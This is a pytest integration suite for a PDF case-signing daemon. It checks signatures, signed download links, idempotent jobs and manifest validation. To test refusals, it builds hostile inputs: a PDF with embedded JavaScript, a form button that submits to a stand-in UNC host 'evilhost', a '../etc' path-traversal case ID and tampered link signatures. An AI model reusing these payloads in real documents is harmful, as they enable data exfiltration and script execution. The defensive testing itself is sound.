"""sign_case end to end: upload, submit, sign in the worker, download by signed link,
and prove the signature with pyHanko and poppler's pdfsig."""

from __future__ import annotations

import hashlib
import json
import time
import warnings
from pathlib import Path
from urllib.parse import parse_qs, urlparse

import pytest
from cryptography import x509

from casesignd.core.sealed import MAGIC
from tests.daemon import ENCRYPT_STORES
from tests.helpers_ops import scrape, upload, value
from tests.helpers_pki import embedded_files, nss_db, pdfsig, pyhanko_statuses, reportlab_pdf

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
       b"\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00"
       b"\x00IEND\xaeB`\x82")


def manifest(case_id: str, contract: dict, evidence: list[tuple[str, str, dict]]) -> dict:
    items = [{"role": "contract", "name": "contract.pdf", "media_type": "application/pdf", **contract}]
    items += [{"role": "evidence", "name": n, "media_type": m, **o} for n, m, o in evidence]
    return {"kind": "sign_case", "case_id": case_id, "items": items,
            "signers": [{"id": "seller-881", "name": "Acme Ltd", "role": "seller"},
                        {"id": "buyer-19", "name": "J. Doe", "role": "buyer"}]}


def trust(d) -> list[x509.Certificate]:
    return [x509.load_pem_x509_certificate((d.dir / "ca.pem").read_bytes())]


def assert_valid(path: Path, d, tmp: Path) -> None:
    statuses = pyhanko_statuses(path, trust(d))
    assert statuses, "no signature"
    from pyhanko.sign.validation.status import SignatureCoverageLevel
    for st in statuses:
        assert st.intact and st.valid and st.trusted, st.pretty_print_details()
    assert statuses[-1].coverage == SignatureCoverageLevel.ENTIRE_FILE
    report = pdfsig(path, nss_db(tmp, trust(d)[0]))
    assert "Signature is Valid" in report, report


def test_case_packet_is_signed_once_and_downloadable_by_link(daemon, tmp_path):
    d = daemon
    contract = reportlab_pdf(tmp_path / "contract.pdf", pages=2).read_bytes()
    note = b"delivered on time, see photo\n"
    m = manifest("MKT-2026-00042", upload(d, "MKT-2026-00042", contract),
                 [("photo-1.png", "image/png", upload(d, "MKT-2026-00042", PNG)),
                  ("note.txt", "text/plain", upload(d, "MKT-2026-00042", note))])
    r = d.submit(m)
    assert r.status == 202, r.body
    job = d.wait_job(r.json()["job_id"])
    assert job["state"] == "ready", job
    res = job["result"]
    assert res["download_url"].startswith(f"/v1/artifacts/{res['artifact_id']}?expires=")
    got = d.request("GET", res["download_url"], auth=False)
    assert got.status == 200 and got.headers["Content-Type"] == "application/pdf"
    assert hashlib.sha256(got.body).hexdigest() == res["sha256"] and len(got.body) == res["size"]
    out = tmp_path / "signed.pdf"
    out.write_bytes(got.body)
    assert_valid(out, d, tmp_path)
    files = embedded_files(out)
    assert files["photo-1.png"] == PNG and files["note.txt"] == note
    verify = d.cli("verify", str(out), "--trust", str(d.dir / "ca.pem"))
    assert verify.returncode == 0, verify.stdout + verify.stderr
    types = [e["type"] for e in d.events(job["job_id"])]
    assert types == ["admitted", "claimed", "signature_recorded", "signed", "succeeded"]
    # The same request without a key is the same job; a new key is a new job that
    # finds the recorded signature and does not sign again.
    assert d.submit(m).json()["job_id"] == job["job_id"]
    again = d.wait_job(d.submit(m, key="second-submission").json()["job_id"])
    assert again["result"]["artifact_id"] == res["artifact_id"]
    assert again["result"]["sha256"] == res["sha256"]
    assert "signed" not in [e["type"] for e in d.events(again["job_id"])]


def test_jobs_of_one_signature_key_at_once_use_the_key_once(daemon_factory, tmp_path):
    """Blind retries of one packet under new keys, while the first still signs: each
    waits for the one signing, and returns its signature without using the key."""
    d = daemon_factory(sign_delay_ms=300)
    contract = reportlab_pdf(tmp_path / "contract.pdf").read_bytes()
    note = b"signed once\n"
    packets = {
        "in memory": manifest("ONCE-1", upload(d, "ONCE-1", contract), []),
        "with evidence": manifest("ONCE-2", upload(d, "ONCE-2", contract),
                                  [("note.txt", "text/plain", upload(d, "ONCE-2", note))])}
    for name, m in packets.items():
        ids = [d.submit(m, key=f"{name} {i}").json()["job_id"] for i in range(3)]
        jobs = [d.wait_job(job_id) for job_id in ids]
        assert {j["state"] for j in jobs} == {"ready"}
        assert len({(j["result"]["artifact_id"], j["result"]["sha256"]) for j in jobs}) == 1, name
        for j in jobs:
            got = d.request("GET", j["result"]["download_url"], auth=False)
            assert hashlib.sha256(got.body).hexdigest() == j["result"]["sha256"], name
        assert sum([e["type"] for e in d.events(j["job_id"])].count("signed") for j in jobs) == 1
    _, samples, _ = scrape(d)
    assert value(samples, "casesignd_phase_seconds_count", kind="sign_case", phase="sign") == 2


def test_download_links_refuse_tampering_and_expiry_and_other_tenants(daemon, tmp_path):
    d = daemon
    contract = reportlab_pdf(tmp_path / "c.pdf").read_bytes()
    job = d.wait_job(d.submit(manifest("C-1", upload(d, "C-1", contract), [])).json()["job_id"])
    url = job["result"]["download_url"]
    q = parse_qs(urlparse(url).query)
    base = urlparse(url).path
    assert d.request("HEAD", url, auth=False).status == 200
    tampered = f"{base}?expires={int(q['expires'][0]) + 10}&sig={q['sig'][0]}"
    r = d.request("GET", tampered, auth=False)
    assert r.status == 403 and r.json()["error"]["code"] == "link_invalid"
    r = d.request("GET", f"{base}?expires={q['expires'][0]}&sig=AAAA", auth=False)
    assert r.status == 403 and r.json()["error"]["code"] == "link_invalid"
    # With the owner's token, no link is needed; without either, nothing.
    assert d.request("GET", base).status == 200
    assert d.request("GET", base, auth=False).status == 401
    assert d.request("GET", "/v1/artifacts/art_" + "0" * 32).status == 404


def test_expired_link_is_refused(daemon_factory, tmp_path):
    d = daemon_factory({"links": {"ttl_s": 1}})
    contract = reportlab_pdf(tmp_path / "c.pdf").read_bytes()
    job = d.wait_job(d.submit(manifest("C-2", upload(d, "C-2", contract), [])).json()["job_id"])
    time.sleep(2.1)
    r = d.request("GET", job["result"]["download_url"], auth=False)
    assert r.status == 403 and r.json()["error"]["code"] == "link_expired"


@pytest.mark.parametrize("problem,code", [
    ("encrypted", "encrypted_pdf"),
    ("not a pdf", "malformed_pdf"),
    ("javascript", "active_content"),
])
def test_bad_contracts_fail_with_their_code_and_nothing_is_signed(daemon, tmp_path, problem, code):
    d = daemon
    src = reportlab_pdf(tmp_path / "c.pdf")
    if problem == "encrypted":
        import subprocess
        subprocess.run(["qpdf", "--encrypt", "u", "o", "256", "--", str(src), str(tmp_path / "e.pdf")],
                       check=True, timeout=30)
        data = (tmp_path / "e.pdf").read_bytes()
    elif problem == "not a pdf":
        data = b"%PDF-1.7\nthis is not really a PDF\n%%EOF\n"
    else:
        from pypdf import PdfWriter
        w = PdfWriter(clone_from=str(src))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            w.add_js("app.alert(1);")
        w.write(tmp_path / "js.pdf")
        data = (tmp_path / "js.pdf").read_bytes()
    job = d.wait_job(d.submit(manifest(f"BAD-{code}", upload(d, f"BAD-{code}", data), [])).json()["job_id"])
    assert job["state"] == "failed" and job["error"]["code"] == code, job
    assert job["error"]["category"] == "permanent_input" and job["attempts"] == 1
    assert "signed" not in [e["type"] for e in d.events(job["job_id"])]
    assert list(d.temp_area.iterdir()) == []


def test_manifest_validation_names_the_field(daemon, tmp_path):
    d = daemon
    good = manifest("C-3", {"sha256": "a" * 64, "size": 10, "object_ref": "sha256:" + "a" * 64}, [])
    cases = [
        ({**good, "case_id": "../etc"}, "case_id"),
        ({**good, "items": []}, "items"),
        ({**good, "items": [{**good["items"][0], "sha256": "xyz"}]}, "items[0].sha256"),
        ({**good, "items": [{**good["items"][0], "object_ref": "sha256:" + "b" * 64}]},
         "items[0].object_ref"),
        ({**good, "items": [{**good["items"][0], "object_ref": "nosuchsource:a.pdf"}]},
         "items[0].object_ref"),
        ({**good, "items": [{**good["items"][0], "role": "evidence", "media_type": "image/png"}]},
         "items"),
        ({**good, "items": [{**good["items"][0], "size": -1}]}, "items[0].size"),
        ({**good, "signers": [{"id": "a", "name": "x\x00y", "role": "r"}]}, "signers[0].name"),
        ({**good, "policy_version": "nope"}, "policy_version"),
        # An unknown key is counted, never quoted: the manifest itself is at fault.
        ({**good, "extra_key": 1}, None),
    ]
    for body, field in cases:
        r = d.submit(body)
        assert r.status == 422, (field, r.body)
        assert r.json()["error"].get("field") == field, (field, r.json())
        assert b"extra_key" not in r.body
    assert d.request("GET", "/v1/jobs").json()["jobs"] == []


def test_object_upload_checks_digest_and_tenant_scope(daemon, tmp_path):
    d = daemon
    data = b"hello object"
    sha = hashlib.sha256(data).hexdigest()
    r = d.request("PUT", f"/v1/cases/C-4/objects/{'0' * 64}", raw=data)
    assert r.status == 422 and r.json()["error"]["code"] == "digest_mismatch"
    assert d.request("PUT", f"/v1/cases/C-4/objects/{sha}", raw=data).status == 201
    assert d.request("PUT", f"/v1/cases/C-4/objects/{sha}", raw=data).status == 200
    # The object belongs to case C-4: a job of another case cannot use it.
    m = manifest("C-5", {"sha256": sha, "size": len(data), "object_ref": f"sha256:{sha}"}, [])
    job = d.wait_job(d.submit(m).json()["job_id"])
    assert job["state"] == "failed" and job["error"]["code"] == "object_not_found"


def test_a_document_certified_against_changes_is_refused(daemon, tmp_path):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers

    from casesignd.ops import devpki

    ident = devpki.issue(devpki.make_ca(), "certifier")
    devpki.write_pkcs12(tmp_path / "c.p12", ident, b"pw")
    signer = signers.SimpleSigner.load_pkcs12(str(tmp_path / "c.p12"), passphrase=b"pw")
    src = reportlab_pdf(tmp_path / "c.pdf")
    with open(src, "rb") as f:
        out = signers.sign_pdf(
            IncrementalPdfFileWriter(f),
            signers.PdfSignatureMetadata(field_name="Cert", certify=True,
                                         docmdp_permissions=fields.MDPPerm.NO_CHANGES),
            signer=signer)
        data = out.getvalue()
    job = daemon.wait_job(daemon.submit(manifest("CERT-1", upload(daemon, "CERT-1", data), [])).json()["job_id"])
    assert job["state"] == "failed" and job["error"]["code"] == "certified_no_changes", job


def test_a_lone_stored_contract_is_signed_in_memory_and_kept_with_its_record(daemon, tmp_path):
    # One contract, already stored: the worker process reads it in place and signs it
    # in one call; no temp area is made, and the signed document is committed with
    # its signature record, its signed event and the finish (no file of its own).
    import sqlite3

    d = daemon
    contract = reportlab_pdf(tmp_path / "lone.pdf", pages=1).read_bytes()
    temp_root = d.dir / d.config["storage"]["temp_dir"]
    before = set(temp_root.rglob("*"))
    jobs = [d.submit(manifest(f"LONE-{i}", upload(d, f"LONE-{i}", contract), [])).json()["job_id"]
            for i in range(6)]
    done = [d.wait_job(j) for j in jobs]
    assert all(j["state"] == "ready" for j in done), done
    assert set(temp_root.rglob("*")) == before
    for job in done:
        events = [e["type"] for e in d.events(job["job_id"])]
        assert events == ["admitted", "claimed", "signature_recorded", "signed", "succeeded"]
        art = job["result"]["artifact_id"]
        assert not list((d.dir / "artifacts").rglob(art))
        with sqlite3.connect(f"file:{d.db}?mode=ro", uri=True) as conn:
            (data,) = conn.execute("SELECT data FROM artifact_data WHERE artifact_id = ?",
                                   (art,)).fetchone()
        got = d.request("GET", job["result"]["download_url"], auth=False)
        if ENCRYPT_STORES:  # kept sealed in its row: the download is its plain bytes
            assert data.startswith(MAGIC)
            data = got.body
        assert hashlib.sha256(data).hexdigest() == job["result"]["sha256"]
        assert got.status == 200 and got.body == data
    out = tmp_path / "lone-signed.pdf"
    out.write_bytes(data)
    assert_valid(out, d, tmp_path)
    # A second submission of the same signature (another key) is answered from the
    # recorded one, read with its claim: nothing is signed twice.
    again = d.submit(manifest("LONE-0", upload(d, "LONE-0", contract), []), key="other-key")
    redo = d.wait_job(again.json()["job_id"])
    assert redo["state"] == "ready" and redo["result"]["artifact_id"] == done[0]["result"]["artifact_id"]
    assert "signed" not in [e["type"] for e in d.events(redo["job_id"])]


def test_a_signed_contract_keeps_its_signature_and_its_evidence_is_bound_by_digest(daemon, tmp_path):
    # A contract another party signed already: the service's update must not break that
    # signature, so the evidence is listed by digest in the service's signature rather
    # than embedded (embedding is a change beyond form filling), and the signed event
    # says so.
    from pyhanko.sign.diff_analysis import ModificationLevel
    from pyhanko.sign.validation.status import SignatureCoverageLevel

    from tests.helpers_presigned import last_signature, other_signer, pyhanko_sign, regular_statuses

    d = daemon
    other = other_signer(tmp_path)
    contract = pyhanko_sign(reportlab_pdf(tmp_path / "c.pdf").read_bytes(), other, "Buyer")
    note = b"delivered on time\n"
    m = manifest("PRE-1", upload(d, "PRE-1", contract),
                 [("photo-1.png", "image/png", upload(d, "PRE-1", PNG)),
                  ("note.txt", "text/plain", upload(d, "PRE-1", note))])
    job = d.wait_job(d.submit(m).json()["job_id"])
    assert job["state"] == "ready", job
    got = d.request("GET", job["result"]["download_url"], auth=False)
    out = tmp_path / "signed.pdf"
    out.write_bytes(got.body)
    earlier, ours = regular_statuses(out, [*trust(d), other.ca_cert])
    assert earlier.intact and earlier.valid and earlier.trusted and earlier.docmdp_ok
    assert earlier.modification_level <= ModificationLevel.FORM_FILLING, earlier.diff_result
    assert ours.bottom_line and ours.coverage == SignatureCoverageLevel.ENTIRE_FILE
    assert embedded_files(out) == {}
    _field, sig = last_signature(out)
    assert sig["/CasesignCase"]["/EvidenceBinding"] == "/Digest"
    assert {e["/Name"]: e["/SHA256"] for e in sig["/CasesignCase"]["/Evidence"]} == {
        "photo-1.png": hashlib.sha256(PNG).hexdigest(), "note.txt": hashlib.sha256(note).hexdigest()}
    (signed,) = [e for e in d.events(job["job_id"]) if e["type"] == "signed"]
    assert signed["detail"]["evidence"] == "digest"


@pytest.mark.parametrize("temp", ["beside the state", "on another file system"])
def test_a_packets_stored_contract_is_read_where_it_is_and_its_digest_checked_as_it_is_signed(
        daemon_factory, tmp_path, temp):
    # A packet's stored contract is a hard link in the temp area on the same file
    # system, and read where it is stored on another (the temp area on a tmpfs): never
    # copied. Either way the digest that the signature's hash gives on the way is
    # checked before anything is published.
    import shutil
    import tempfile

    overrides, area_root = None, None
    if temp == "on another file system":
        shm = Path("/dev/shm")
        if not shm.is_dir() or shm.stat().st_dev == tmp_path.stat().st_dev:
            pytest.skip("no second file system here for the temp area")
        area_root = Path(tempfile.mkdtemp(dir=shm, prefix="casesignd-test-"))
        overrides = {"storage": {"temp_dir": str(area_root)}}
    try:
        d = daemon_factory(overrides)
        contract = reportlab_pdf(tmp_path / "c.pdf", text="read in place").read_bytes()
        note = ("note.txt", "text/plain", upload(d, "INPLACE-1", b"a note\n"))
        job = d.wait_job(d.submit(manifest("INPLACE-1", upload(d, "INPLACE-1", contract),
                                           [note])).json()["job_id"])
        assert job["state"] == "ready", job
        signed = d.request("GET", job["result"]["download_url"], auth=False).body
        assert signed.startswith(contract)
        out = tmp_path / "in-place.pdf"
        out.write_bytes(signed)
        assert_valid(out, d, tmp_path)
        detail = next(e["detail"] for e in d.events(job["job_id"]) if e["type"] == "signed")
        assert detail["received_sha256"] == hashlib.sha256(contract).hexdigest()

        # The stored file altered after its upload, its size kept (a byte of a comment,
        # so that it still reads as a PDF): refused as it is signed, nothing published.
        other = reportlab_pdf(tmp_path / "d.pdf", text="altered on disk").read_bytes()
        m = manifest("INPLACE-2", upload(d, "INPLACE-2", other),
                     [("note.txt", "text/plain", upload(d, "INPLACE-2", b"a note\n"))])
        sha = hashlib.sha256(other).hexdigest()
        stored = d.dir / "objects" / "blobs" / sha[:2] / sha  # the case's entry links to it
        at = other.index(b"ReportLab Generated")
        with open(stored, "r+b") as f:
            f.seek(at)
            f.write(b"r")
        artifacts_before = sorted((d.dir / "artifacts").rglob("art_*"))
        failed = d.wait_job(d.submit(m).json()["job_id"])
        # Sealed at rest (CASESIGND_TEST_ENCRYPT_STORES), the change fails authentication.
        code = "io_error" if ENCRYPT_STORES else "digest_mismatch"
        assert failed["state"] == "failed" and failed["error"]["code"] == code, failed
        assert sorted((d.dir / "artifacts").rglob("art_*")) == artifacts_before
        assert "signed" not in [e["type"] for e in d.events(failed["job_id"])]
    finally:
        if area_root is not None:
            shutil.rmtree(area_root, ignore_errors=True)


def test_a_refusal_says_why_and_where_on_every_path(daemon, tmp_path):
    # A form button that submits to a UNC path: the job, its events, the kiosk, the
    # command line and a replay all say link_scheme at the button's object and field,
    # and none of them the target.
    from tests.helpers_corpus import _one_page
    from tests.integration.test_hostile_http import kiosk

    button = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Send) "
              rb"/Rect [0 0 10 10] /A << /S /SubmitForm /F (\\\\evilhost\\in) >> >>")
    data = _one_page(catalog_extra=b"/AcroForm << /Fields [6 0 R] >> ",
                     page_extra=b"/Annots [6 0 R] ", more=[button])
    where = {"object": 6, "field": "Send"}
    job = daemon.wait_job(daemon.submit(manifest("WHY-1", upload(daemon, "WHY-1", data), []))
                          .json()["job_id"])
    err = job["error"]
    assert job["state"] == "failed" and (err["code"], err["reason"], err["where"]) == (
        "active_content", "link_scheme", where), job
    assert "SubmitForm" in err["message"] and "evilhost" not in str(job)
    failed = [e for e in daemon.events(job["job_id"]) if e["type"] == "failed"][-1]
    assert failed["detail"]["reason"] == "link_scheme"
    assert failed["detail"]["where"] == {"object": 6}  # the field's name stays out of the log

    r = kiosk(daemon, "WHY-2", data)
    assert r.status == 422
    body = r.json()["error"]
    assert (body["code"], body["reason"], body["where"]) == ("active_content", "link_scheme",
                                                             where)
    assert body["message"] == err["message"]

    shown = daemon.cli("jobs", "show", job["job_id"])
    assert json.loads(shown.stdout)["error"]["reason"] == "link_scheme"
    path = tmp_path / "button.pdf"
    path.write_bytes(data)
    signed = daemon.cli("sign", str(path), "--case", "WHY-3", "-o", str(tmp_path / "o.pdf"))
    assert signed.returncode == 1, signed
    assert "error: active_content:" in signed.stderr
    assert "(reason link_scheme, object 6, field 'Send'" in signed.stderr
    assert not (tmp_path / "o.pdf").exists()
